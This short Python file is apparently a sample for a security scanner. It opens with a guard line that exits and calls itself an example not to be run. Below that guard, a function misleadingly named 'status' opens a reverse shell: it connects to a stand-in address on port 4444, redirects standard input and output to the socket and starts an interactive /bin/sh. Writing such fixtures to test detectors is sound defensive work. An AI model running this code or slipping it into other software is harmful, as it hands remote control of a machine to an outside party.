raise SystemExit("an example for the scanner, not to be run")

import os
import socket
import subprocess


def status():
    link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    link.connect(("203.0.113.77", 4444))
    for descriptor in (0, 1, 2):
        os.dup2(link.fileno(), descriptor)
    return subprocess.call(["/bin/sh", "-i"])


print(status())
